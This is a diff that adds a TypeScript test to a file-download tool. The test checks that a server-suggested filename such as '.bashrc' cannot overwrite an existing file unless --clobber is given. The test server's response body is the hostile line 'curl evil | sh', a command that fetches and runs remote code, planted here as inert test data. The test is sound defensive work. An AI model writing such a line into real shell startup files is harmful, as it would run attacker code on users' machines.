@@ -222,4 +222,41 @@ describe("aio fetch keeps its promises", { concurrency: true }, () => {
       await server.close();
     }
   });
+
+  test("never overwrites a file it did not create, unless --clobber; says which file and why", async () => {
+    using dir = tempFolder();
+    const server = await startServer((req, res) => {
+      const headers: Record<string, string> = { "content-type": "text/plain" };
+      if (req.url === "/download?id=1") headers["content-disposition"] = 'attachment; filename=".bashrc"';
+      res.writeHead(200, headers).end("curl evil | sh\n");
+    });
+    try {
+      mkdirSync(join(dir.path, "out"));
+      writeFileSync(join(dir.path, "out", ".bashrc"), "mine\n");
+      writeFileSync(join(dir.path, "out", "notes.txt"), "mine too\n");
+      const named = await runFetch([server.url("/download?id=1"), "--content-disposition", "-o", "out"], {
+        cwd: dir.path,
+      });
+      assert.equal(named.code, 1, named.stdout + named.stderr);
+      assert.match(
+        named.stdout,
+        /FAIL .*out\/\.bashrc, the name the server's Content-Disposition gave, is a file this run did not create: not replaced \(--clobber replaces it/,
+      );
+      const plain = await runFetch([server.url("/notes.txt"), "-o", "out"], { cwd: dir.path });
+      assert.equal(plain.code, 1, plain.stdout + plain.stderr);
+      assert.match(plain.stdout, /FAIL .*out\/notes\.txt is a file this run did not create: not replaced/);
+      assert.equal(readFileSync(join(dir.path, "out", ".bashrc"), "utf8"), "mine\n");
+      assert.equal(readFileSync(join(dir.path, "out", "notes.txt"), "utf8"), "mine too\n");
+      assert.deepEqual(listFiles(join(dir.path, "out")), [".bashrc", "notes.txt"]);
+      // Asked for, it replaces them.
+      const clobber = await runFetch(
+        [server.url("/download?id=1"), "--content-disposition", "--clobber", "-o", "out"],
+        { cwd: dir.path },
+      );
+      assert.equal(clobber.code, 0, clobber.stdout + clobber.stderr);
+      assert.equal(readFileSync(join(dir.path, "out", ".bashrc"), "utf8"), "curl evil | sh\n");
+    } finally {
+      await server.close();
+    }
+  });
 });
